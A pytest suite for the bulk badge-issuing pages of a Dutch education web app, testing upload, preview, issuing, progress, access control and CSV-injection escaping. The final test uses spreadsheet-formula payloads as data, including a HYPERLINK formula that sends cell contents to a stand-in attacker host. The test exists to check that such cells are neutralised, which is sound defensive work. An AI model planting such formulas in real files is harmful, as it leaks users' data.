"""Bulk issuing pages: upload, preview, issue, progress, problem rows, and who may see them."""

from __future__ import annotations

import io
import os
import re
import socket

import pytest

from badges.issuing.models import BulkJob
from badges.kernel.db import db
from badges.kernel.mail import LogMailer
from badges.kernel.models import utcnow
from tests.conftest import csrf_token
from tests.services.test_bulk import make_csv

BASE = "/issuer/maasvallei-zorg-welzijn/bulk/"


@pytest.fixture
def mailer(app):
    app.extensions["badges.mailer"] = LogMailer()
    yield app.extensions["badges.mailer"]
    app.extensions.pop("badges.mailer")


def upload(client, text: str | bytes, filename="lijst.csv"):
    raw = text.encode() if isinstance(text, str) else text
    return client.post(BASE, data={"csrf_token": csrf_token(client, BASE),
                                   "file": (io.BytesIO(raw), filename)},
                       content_type="multipart/form-data")


def job_url(response) -> str:
    return response.headers["Location"]


class TestBulkPages:
    def test_upload_preview_issue_and_results(self, client, auth, demo, mailer):
        auth.login("docent@rocdemaasvallei.example")
        page = client.get(BASE)
        assert page.status_code == 200 and "voorbeeldbestand" in page.get_data(as_text=True).lower()
        resp = upload(client, make_csv(120, broken=3))
        assert resp.status_code == 302
        url = job_url(resp)
        html = client.get(url).get_data(as_text=True)
        assert "Geef 117 geldige bewijzen uit" in html
        first_rows = re.findall(r'<th scope="row">(\d+)</th>', html)
        assert first_rows[:4] == ["2", "3", "4", "5"]  # invalid first, then by line
        assert "Regel 2, kolom e-mail" in html and "Pagina 1 van 2" in html

        start = client.post(url + "/start", data={"csrf_token": csrf_token(client, url)})
        assert start.status_code == 302
        status = client.get(url + "/status.json").get_json()
        assert status["state"] == "done" and status["counts"]["issued"] == 117
        assert status["progress"] == 100
        html = client.get(url).get_data(as_text=True)
        assert "117 bewijzen uitgegeven" in html
        problems = client.get(url + "/problemen.csv")
        assert problems.mimetype == "text/csv"
        lines = problems.get_data(as_text=True).splitlines()
        assert len(lines) == 4 and lines[1].startswith("2;")
        assert len(mailer.sent) == 117

    def test_same_file_again_issues_nothing(self, client, auth, demo, mailer):
        auth.login("docent@rocdemaasvallei.example")
        for expected in ("5 bewijzen uitgegeven", "0 bewijzen uitgegeven"):
            url = job_url(upload(client, make_csv(5)))
            client.post(url + "/start", data={"csrf_token": csrf_token(client, url)})
            assert expected in client.get(url).get_data(as_text=True)
        assert len(mailer.sent) == 5

    def test_file_level_problem_is_shown_on_the_form(self, client, auth, demo):
        auth.login("docent@rocdemaasvallei.example")
        resp = upload(client, "naam;prestatie\r\nA;K0692\r\n")
        assert resp.status_code == 400
        html = resp.get_data(as_text=True)
        assert "Deze kolommen ontbreken: e-mail" in html and 'aria-invalid="true"' in html

    def test_wrong_file_type_is_refused(self, client, auth, demo):
        auth.login("docent@rocdemaasvallei.example")
        resp = upload(client, b"%PDF-1.4", filename="lijst.pdf")
        assert resp.status_code == 400 and ".csv" in resp.get_data(as_text=True)

    def test_template_download(self, client, auth, demo):
        auth.login("docent@rocdemaasvallei.example")
        resp = client.get(BASE + "voorbeeld.csv")
        assert resp.mimetype == "text/csv" and "attachment" in resp.headers["Content-Disposition"]
        assert resp.get_data(as_text=True).startswith("\ufeffe-mail;naam;prestatie")

    def test_progress_page_polls_and_has_a_fallback_link(self, client, auth, demo, app):
        auth.login("docent@rocdemaasvallei.example")
        url = job_url(upload(client, make_csv(2)))
        with app.app_context():
            job = db.session.scalar(db.select(BulkJob).filter_by(uuid=url.rsplit("/", 1)[-1]))
            job.state = "running"  # and alive: run by this process, just now
            job.owner, job.heartbeat_at = f"{socket.gethostname()}:{os.getpid()}", utcnow()
            db.session.commit()
        html = client.get(url).get_data(as_text=True)
        assert "js/bulk.js" in html and "Ververs de voortgang" in html
        assert "http-equiv" not in html

    def test_needs_login(self, client, demo):
        assert client.get(BASE).status_code == 302


class TestOtherOrganisations:
    def test_staff_of_another_org_cannot_see_or_run_a_job(self, client, auth, demo, app):
        auth.login("docent@rocdemaasvallei.example")
        url = job_url(upload(client, make_csv(2)))
        token = csrf_token(client, url)
        auth.logout()
        auth.login("examen@vakcollege.example")
        assert client.get(BASE).status_code == 403
        assert client.get(url).status_code == 403
        assert client.get(url + "/status.json").status_code == 403
        assert client.post(url + "/start", data={"csrf_token": token}).status_code == 403
        # through their own organisation's URL the job does not exist
        own = url.replace("maasvallei-zorg-welzijn", "vakcollege-techniek-brabant")
        assert client.get(own).status_code == 404
        assert client.get(own + "/problemen.csv").status_code == 404

    def test_learner_gets_403(self, client, auth, demo):
        auth.login("vanessa@example.nl")
        assert client.get(BASE).status_code == 403


class TestProblemsFileIsSafeInASpreadsheet:
    """CSV injection: cells of the problems file never start a formula (#15 item 12)."""

    def test_formula_cells_are_escaped(self, client, auth, demo):
        auth.login("docent@rocdemaasvallei.example")
        rows = [
            'bad-email;=HYPERLINK("https://evil.example/?"&A1;"klik");K0692;2026-P1;goed;;31-12-2030',
            "+31612345678;@SUM(1+1);K0692;2026-P1;goed;;31-12-2030",
            "-2+3;\tnaam;K0692;2026-P1;=1+1;;31-02-2030",
        ]
        header = make_csv(0).splitlines()[0]
        url = job_url(upload(client, "\r\n".join([header, *rows]) + "\r\n"))
        text = client.get(url + "/problemen.csv").get_data(as_text=True).lstrip("\ufeff")
        import csv
        cells = [c for row in list(csv.reader(io.StringIO(text), delimiter=";"))[1:] for c in row]
        assert len(cells) > 10
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
        assert {"'=HYPERLINK(\"https://evil.example/?\"&A1", "'@SUM(1+1)", "'+31612345678",
                "'-2+3", "'=1+1"} <= set(cells)
